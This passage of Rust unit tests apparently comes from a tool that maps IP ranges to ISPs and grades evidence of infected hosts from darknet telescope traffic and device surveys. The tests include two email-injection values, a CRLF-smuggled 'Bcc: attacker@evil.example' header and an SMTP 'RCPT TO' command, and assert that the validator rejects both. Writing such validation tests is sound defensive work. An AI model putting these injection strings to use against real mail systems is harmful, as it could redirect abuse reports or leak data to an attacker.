        assert!(IspTable::new(vec![with_id("Same", "a"), with_id("Same", "b")]).is_err());
        // One ISP's name may not be another's id (accounts name either).
        let e =
            IspTable::new(vec![with_id("NTT East", "west"), with_id("west", "east")]).unwrap_err();
        assert!(
            matches!(
                e,
                IspError::Duplicate {
                    what: "id and name",
                    ..
                }
            ),
            "{e}"
        );
        // The same prefix or AS in two entries, a name with a line break.
        assert!(
            IspTable::new(vec![
                with_id("A", "a").with_prefix("198.51.100.0/24"),
                with_id("B", "b").with_prefix("198.51.100.0/24")
            ])
            .is_err(),
            "same prefix"
        );
        let asn = |name: &str, id: &str, prefix: &str| {
            Isp {
                asn: vec![4713],
                ..with_id(name, id)
            }
            .with_prefix(prefix)
        };
        // A shared AS is allowed, but never decides between its holders.
        let t = IspTable::new(vec![
            asn("A", "a", "198.51.100.0/25"),
            asn("B", "b", "198.51.100.128/25"),
        ])
        .unwrap();
        assert!(t.isp_for_asn(4713).is_none());
        let b = t.isp_of("198.51.100.200".parse().unwrap(), Some(4713));
        assert_eq!(b.unwrap().id(), "b");
        assert!(matches!(
            IspTable::new(vec![isp("ISP\r\nBcc: attacker@evil.example", &[])]),
            Err(IspError::Name { .. })
        ));
        let bad_abuse = Isp {
            abuse: "abuse@isp.example>\r\nRCPT TO:<attacker@evil.example".into(),
            ..isp("Test ISP", &[])
        };
        assert!(matches!(
            IspTable::new(vec![bad_abuse]),
            Err(IspError::Abuse { .. })
        ));
    }

    #[test]
    fn forged_darknet_packets_stay_observed() {
        let rule = CorroborationRule::default();
        let host = serde_json::json!({"ip": "198.51.100.7", "fingerprint": "mirai", "packets": 3,
            "ports": [23], "first_ts": "2026-01-01T00:00:00Z", "last_ts": "2026-01-01T00:00:01Z"});
        let p = |buckets, packets, hours: u64| Persistence {
            buckets,
            packets,
            span_secs: hours * 3600,
        };
        // Three forged SYNs in one bucket: observed, whatever the address.
        let a = from_infected(&host, p(1, 3, 0), &[], &rule).unwrap();
        assert_eq!(
            EvidenceLevel::of_evidence(&a.evidence),
            EvidenceLevel::Observed
        );
        assert!(a.evidence["rule"]
            .as_str()
            .unwrap()
            .contains("at least 4 buckets spanning at least 6 hours"));
        let w = ("2026-01-01T00:00:00Z", "2026-01-01T09:00:00Z");
        // Many SYNs in one bucket, few over many, or many buckets within an
        // hour (the clock's edges): still observed.
        for q in [p(1, 500, 0), p(30, 29, 30), p(4, 100, 1)] {
            assert_eq!(
                infected_level(q, &[], w, &rule).0,
                EvidenceLevel::Observed,
                "{q:?}"
            );
        }
        let (l, why) = infected_level(p(4, 30, 6), &[], w, &rule);
        assert_eq!(l, EvidenceLevel::Corroborated);
        assert!(why[0].contains("4 buckets over 6 hours"), "{why:?}");
        // A survey that found the way in, near the time: corroborated. An
        // open telnet port, or a finding from another season: not.
        let f = |kind: &str, ts: &str| SurveyEvidence {
            kind: kind.into(),
            port: 23,
            ts: ts.into(),
        };
        let a = from_infected(
            &host,
            p(1, 3, 0),
            &[f("default_credential", "2026-01-05T00:00:00Z")],
            &rule,
        )
        .unwrap();
        assert_eq!(
            EvidenceLevel::of_evidence(&a.evidence),
            EvidenceLevel::Corroborated
        );
        assert!(a.evidence["corroboration"][0]
            .as_str()
            .unwrap()
            .starts_with("survey: default_credential on 23/tcp"));
        for weak in [
            f("exposed_telnet", "2026-01-01T00:00:00Z"),
            f("default_credential", "2026-11-01T00:00:00Z"),
        ] {
            let a = from_infected(&host, p(1, 3, 0), std::slice::from_ref(&weak), &rule).unwrap();
            assert_eq!(
                EvidenceLevel::of_evidence(&a.evidence),
                EvidenceLevel::Observed,
                "{weak:?}"
            );
        }
        // A login problem is not fixed by a device that takes any password.
        assert!(still_present(
            "default_credential",
            "accepts_any_credentials"
        ));
        assert!(still_present("no_authentication", "default_credential"));
        assert!(still_present("exposed_telnet", "exposed_telnet"));
        assert!(!still_present("exposed_telnet", "accepts_any_credentials"));
        assert!(!still_present("open_control_panel", "default_credential"));
        // Stored before levels: by source.
        assert_eq!(
            EvidenceLevel::of_evidence(&serde_json::json!({"source": "survey"})),
            EvidenceLevel::Confirmed
        );
        assert_eq!(
            EvidenceLevel::of_evidence(&serde_json::json!({"source": "telescope"})),
            EvidenceLevel::Observed
        );
    }
}
